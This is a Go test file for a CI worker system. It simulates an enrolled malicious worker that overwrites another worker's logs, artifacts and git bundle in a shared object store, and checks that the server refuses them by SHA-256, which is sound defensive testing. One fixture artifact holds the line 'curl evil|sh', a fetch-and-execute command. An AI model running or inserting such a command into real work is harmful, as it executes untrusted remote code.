package worker

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kusaw/kusaw/cluster"
	"github.com/kusaw/kusaw/internal/testkit"
	"github.com/kusaw/kusaw/record"
	"github.com/kusaw/kusaw/status"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
)

// enrolled is a worker identity the test drives by hand: an enrolled but
// malicious worker with its own connection and permissions.
func (r *rig) enrolled(t *testing.T, name string) (*cluster.Identity, *nats.Conn, *cluster.Handles) {
	t.Helper()
	tok, err := r.srv.NewToken("", cluster.Grant{})
	if err != nil {
		t.Fatal(err)
	}
	id, err := Join(r.ctx, t.TempDir(), tok.String(), name, "test", nil)
	if err != nil {
		t.Fatal(err)
	}
	nc, err := cluster.Dial(id, name, nats.ErrorHandler(func(*nats.Conn, *nats.Subscription, error) {}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	h, err := cluster.Open(r.ctx, nc)
	if err != nil {
		t.Fatal(err)
	}
	return id, nc, h
}

// startWorkerWith starts a worker like startWorker, after prep has seen
// it; its join token allows o.Pools and default.
func (r *rig) startWorkerWith(t *testing.T, name string, o Options, prep func(*Worker)) (*Worker, context.CancelFunc) {
	t.Helper()
	dir := t.TempDir()
	tok, err := r.srv.NewToken("", cluster.Grant{Pools: append([]string{"default"}, o.Pools...)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Join(r.ctx, dir, tok.String(), name, "test", nil); err != nil {
		t.Fatal(err)
	}
	o.StateDir, o.Kusaw, o.Version = dir, "/bin/false", "test"
	if o.MaxParallel == 0 {
		o.MaxParallel = 2
	}
	w, err := New(r.ctx, o)
	if err != nil {
		t.Fatal(err)
	}
	if prep != nil {
		prep(w)
	}
	ctx, cancel := context.WithCancel(r.ctx)
	done := make(chan struct{})
	go func() { defer close(done); _ = w.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done; w.Close() })
	return w, cancel
}

// afterPut runs a hook once an object is stored and before Put returns:
// the window between a worker's upload and serve's fetch, held open.
type afterPut struct {
	jetstream.ObjectStore
	hook func(name string)
}

func (a afterPut) Put(ctx context.Context, m jetstream.ObjectMeta, r io.Reader) (*jetstream.ObjectInfo, error) {
	info, err := a.ObjectStore.Put(ctx, m, r)
	if err == nil {
		a.hook(m.Name)
	}
	return info, err
}

// overwriter is mallory writing over w1's objects in the store as soon as
// w1 has uploaded them, with her own connection.
func overwriter(t *testing.T, h *cluster.Handles, suffixes map[string][]byte) (func(string), func() []string) {
	var mu sync.Mutex
	var done []string
	hook := func(name string) {
		for suf, data := range suffixes {
			if strings.HasSuffix(name, "/"+suf) {
				// A worker may not purge a stream, so the store's purge
				// of the replaced chunks is refused: it waits out ctx.
				ctx, cancel := context.WithTimeout(context.Background(), time.Second)
				_, err := h.Objects.PutBytes(ctx, name, data)
				cancel()
				if err != nil {
					t.Errorf("mallory could not write %s: %v", name, err)
					return
				}
				mu.Lock()
				done = append(done, name)
				mu.Unlock()
			}
		}
	}
	return hook, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string(nil), done...) }
}

func tarOf(t *testing.T, files map[string]string) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for n, c := range files {
		tw.WriteHeader(&tar.Header{Name: n, Typeflag: tar.TypeReg, Size: int64(len(c)), Mode: 0o644})
		tw.Write([]byte(c))
	}
	tw.Close()
	return b.Bytes()
}

func eventsOf(t *testing.T, dir, typ string) []map[string]any {
	b, _ := os.ReadFile(filepath.Join(dir, record.EventsFile))
	var out []map[string]any
	for _, l := range strings.Split(string(b), "\n") {
		var ev record.Event
		if json.Unmarshal([]byte(l), &ev) == nil && ev.Type == typ {
			out = append(out, ev.Data)
		}
	}
	return out
}

const madeArtifact = `version: 1
repos:
  app: {path: ./app}
pipelines:
  default: [write]
steps:
  write:
    run: [sh, -c, 'echo from-worker > made.txt && mkdir -p "$KUSAW_ARTIFACTS" && echo report > "$KUSAW_ARTIFACTS/r.txt" && echo genuine-output']
`

// Attacker's side: mallory, an enrolled worker, writes over w1's stdout
// log and artifacts in the object store between w1's upload and serve's
// fetch (the names are predictable and any worker may write the store).
// Serve checks each object against the SHA-256 w1's result names and
// writes neither; each refusal is an event naming the object. w1's commit
// still lands (its bundle was not touched). TestRunOnWorker is the twin
// where nobody interferes and the logs and artifacts come back.
func TestOverwrittenFilesRefused(t *testing.T) {
	r := startServe(t, madeArtifact, 30*time.Second)
	_, _, mh := r.enrolled(t, "mallory")
	hook, done := overwriter(t, mh, map[string][]byte{
		record.StdoutFile:    []byte("pwned-by-mallory\n"),
		cluster.ArtifactsTar: tarOf(t, map[string]string{"r.txt": "pwned-by-mallory\n", "extra.sh": "curl evil|sh\n"}),
	})
	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = afterPut{w.h.Objects, hook} })
	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
	defer cancel()
	run, err := r.e.Run(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(done()) != 2 {
		t.Fatalf("mallory overwrote %v, want stdout.log and artifacts.tar", done())
	}
	dir := record.AttemptDir(run.Dir, "write", 1)
	if b, err := os.ReadFile(filepath.Join(dir, record.StdoutFile)); err == nil {
		t.Errorf("serve wrote the overwritten stdout.log: %q", b)
	}
	for _, f := range []string{"r.txt", "extra.sh"} {
		if b, err := os.ReadFile(filepath.Join(dir, record.ArtifactsDir, f)); err == nil {
			t.Errorf("serve unpacked the overwritten artifact %s: %q", f, b)
		}
	}
	refused := map[string]bool{}
	for _, d := range eventsOf(t, dir, record.EvClusterObjectRefused) {
		obj, _ := d["object"].(string)
		refused[obj] = strings.Contains(d["error"].(string), "SHA-256")
	}
	for _, name := range done() {
		if !refused[name] {
			t.Errorf("no %s event names %s (events: %v)", record.EvClusterObjectRefused, name, refused)
		}
	}
	if run.Record.State != status.RunSucceeded {
		t.Fatalf("run %s: %s", run.Record.State, run.Record.Message)
	}
	repo := run.Record.Repos[0]
	if got := testkit.GitRun(t, repo.Path, "show", repo.Branch+":made.txt"); got != "from-worker" {
		t.Fatalf("run branch made.txt %q", got)
	}
}

// Attacker's side: mallory writes over w1's returned bundle before serve
// fetches it. Serve refuses it by its SHA-256 before git sees it: the
// attempt fails with a message naming the object, and the run branch does
// not move.
func TestOverwrittenBundleRefused(t *testing.T) {
	r := startServe(t, madeArtifact, 30*time.Second)
	_, _, mh := r.enrolled(t, "mallory")
	hook, done := overwriter(t, mh, map[string][]byte{"out-app.bundle": []byte("# v2 git bundle\nnot what w1 sent\n")})
	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = afterPut{w.h.Objects, hook} })
	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
	defer cancel()
	run, err := r.e.Run(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(done()) != 1 {
		t.Fatalf("mallory overwrote %v", done())
	}
	atts, _ := r.e.State.Attempts(run.Record)
	if run.Record.State == status.RunSucceeded || len(atts) != 1 || atts[0].Outcome == status.OutcomePassed {
		t.Fatalf("run %s with the overwritten bundle, attempts %+v", run.Record.State, atts)
	}
	if m := atts[0].Message; !strings.Contains(m, "SHA-256") || !strings.Contains(m, done()[0]) {
		t.Errorf("attempt message %q does not name the object and its digest", m)
	}
	repo := run.Record.Repos[0]
	if head := testkit.GitRun(t, repo.Path, "rev-parse", repo.Branch); head != repo.BaseSHA {
		t.Errorf("the run branch moved to %s", head)
	}
}
